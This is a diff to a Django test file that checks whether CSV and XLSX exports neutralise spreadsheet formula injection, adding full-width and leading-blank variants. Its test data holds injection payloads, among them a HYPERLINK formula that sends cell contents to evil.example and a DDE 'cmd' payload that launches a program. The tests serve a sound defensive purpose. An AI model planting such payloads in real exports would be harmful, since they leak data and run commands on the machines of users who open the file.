@@ -12,7 +12,9 @@ from openpyxl import load_workbook
 
 pytestmark = pytest.mark.django_db
 
-HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
+HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+           # in full width (＝ is = in NFKC; East Asian spreadsheets read it as =)
+           "\uff1dHYPERLINK(\"https://evil.example/\")", "\uff20SUM(1)"]
 
 
 @pytest.fixture
@@ -34,6 +36,9 @@ def test_csv_export_neutralises_titles_that_a_spreadsheet_would_run(api, instruc
     for title in HOSTILE:
         assert "'" + title in cells, (title, cells)
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    import unicodedata
+
+    assert not [c for c in cells if unicodedata.normalize("NFKC", c).lstrip()[:1] in ("=", "+", "-", "@")], cells
 
 
 def test_xlsx_export_writes_those_titles_as_text_never_as_formulas(api, instructor, hostile_list):
@@ -71,3 +76,13 @@ def test_a_tab_or_carriage_return_first_is_neutralised_too():
     sheet = load_workbook(io.BytesIO(exports.to_xlsx(report))).active
     assert [(c.value, c.data_type) for c in sheet["A"][1:]] == [("\t=1+1", "s"), ("\r@A1", "s")]
     assert sheet["B2"].value == -3
+
+
+@pytest.mark.parametrize("text", [' =HYPERLINK("https://evil.example/")', "\u00a0+1+cmd", "\u3000\uff1d1+1", "\uff0d2+3"])
+def test_a_formula_after_leading_blanks_or_in_full_width_is_neutralised_too(text):
+    """Titles are stripped when saved, but not every exported text is (a department, a course name
+    from a file): a blank before the ``=`` does not make it safe — LibreOffice and Google Sheets trim it."""
+    from syllabus.analytics.exports import neutralised
+
+    assert neutralised(text) == "'" + text
+    assert neutralised("Plain title") == "Plain title" and neutralised(3) == 3
